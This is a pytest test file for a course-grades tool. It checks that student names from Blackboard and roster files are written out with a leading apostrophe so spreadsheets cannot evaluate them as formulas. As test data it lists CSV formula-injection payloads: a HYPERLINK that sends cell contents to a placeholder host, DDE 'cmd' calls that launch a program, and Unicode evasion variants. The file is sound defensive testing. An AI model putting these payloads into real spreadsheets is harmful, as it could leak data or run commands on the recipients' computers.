"""No formula reaches a spreadsheet (issue 22 item 5): ``course grades``' files and the rule.

Grade Center name cells and roster names are people's text: ``=HYPERLINK(...)``,
``+cmd|...``, ``@SUM(...)`` were copied into the Blackboard upload and
``final_grades.csv`` as they were. Now every cell of both starts with an
apostrophe when a spreadsheet would evaluate it; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
from pathlib import Path

import pytest
from grades_command import grades

REPO = Path(__file__).resolve().parents[2]
EXAMPLES = REPO / "course" / "examples"
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", " =1+1", "\t=1+1", "\r=1+1",
            "\n=1+1", "\uff1d1+1", "\uff0b1", "\u3000=1+1"]
STARTS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def evaluated(cell: str) -> bool:
    """Would a spreadsheet read ``cell`` as a formula? (numbers are not formulas)"""
    if PLAIN_NUMBER.fullmatch(cell):
        return False
    return cell[:1] in STARTS or cell.lstrip()[:1] in STARTS


def cells(path: Path, delimiter: str = ",", encoding: str = "utf-8-sig") -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode(encoding), newline=""),
                           delimiter=delimiter))


def run(term: Path, *extra: str) -> tuple[int, Path]:
    out = term.parent / "final"
    code = grades(term, REPO / "course" / "cose474.toml", out, *extra)
    return code, out


@pytest.mark.parametrize("tab", [False, True], ids=["csv", "xls-utf16-tab"])
def test_names_from_the_grade_center_and_roster_are_never_formulas(tmp_path, tab):
    term = tmp_path / "term"
    shutil.copytree(EXAMPLES, term)
    roster = cells(term / "roster.csv")
    for row, formula in zip(roster[1:], FORMULAS, strict=False):
        row[1] = formula
    buffer = io.StringIO()
    csv.writer(buffer).writerows(roster)
    (term / "roster.csv").write_text(buffer.getvalue())
    header = ["Last Name", "First Name", "Username", "Student ID",
              "Midterm [Total Pts: 20 Score] |123457"]
    rows = [[formula, formula, row[0], formula, ""] for row, formula in
            zip(roster[1:], FORMULAS, strict=False)]
    buffer = io.StringIO()
    csv.writer(buffer, delimiter="\t" if tab else ",", quoting=csv.QUOTE_ALL).writerows(
        [header, *rows])
    center = tmp_path / ("gc.xls" if tab else "gc.csv")
    center.write_bytes(buffer.getvalue().encode("utf-16" if tab else "utf-8"))
    code, out = run(term, "--blackboard-grade-center", str(center))
    assert code == 0
    upload = cells(out / ("blackboard_upload.xls" if tab else "blackboard_upload.csv"),
                   "\t" if tab else ",", "utf-16" if tab else "utf-8")
    finals = cells(out / "final_grades.csv")
    for table in (upload, finals):
        assert len(table) > 2
        bad = [cell for row in table for cell in row if evaluated(cell)]
        assert not bad, bad
    shown = {cell for row in upload[1:] for cell in row[:2]}
    assert "'" + FORMULAS[0] in shown and "'-2+3" in shown  # kept, readable, inert
    assert any(row[-2] and PLAIN_NUMBER.fullmatch(row[-2]) for row in finals[1:])
